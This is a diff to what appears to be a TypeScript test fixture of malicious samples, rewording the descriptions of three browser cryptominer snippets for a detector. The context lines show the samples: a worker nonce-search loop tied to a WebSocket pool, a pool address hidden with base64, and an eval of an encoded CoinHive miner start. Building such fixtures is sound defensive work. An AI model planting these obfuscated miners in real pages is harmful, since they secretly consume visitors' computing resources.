@@ -50,7 +50,7 @@ export const miners: readonly MaliciousSample[] = [
   ),
   miner(
     'blob-worker-nonce-search',
-    'Searches nonces in workers created from strings',
+    'Searches nonces in workers made from text',
     `const src = 'onmessage=function(e){var n=e.data.nonce;while(hash(e.data.blob,n)>e.data.target)n++;postMessage({nonce:n,hash:1})}';
     const url = URL.createObjectURL(new Blob([src]));
     const sock = new WebSocket('wss://jobs.mine.test');
@@ -58,7 +58,7 @@ export const miners: readonly MaliciousSample[] = [
   ),
   miner(
     'hidden-miner-address',
-    'Hides the URL of the pool',
+    'Hides the address of the pool',
     `var u = atob('${base64('wss://eu.supportxmr.mine.test/')}');
     var s = new WebSocket(u), w = new Worker('/js/w.js');
     s.onmessage = function (m) { var j = JSON.parse(m.data); w.postMessage({ seed_hash: j.seed_hash, nonce: 0, target: j.target }); };
@@ -72,7 +72,7 @@ export const miners: readonly MaliciousSample[] = [
   ),
   miner(
     'evaluated-miner',
-    'Contains a miner as an encoded string',
+    'Carries a miner as encoded text',
     `eval(atob('${base64("var m=new CoinHive.User('k','u',{autoThreads:true});m.start();var t=m.getTotalHashes();")}'));`,
   ),
 ];
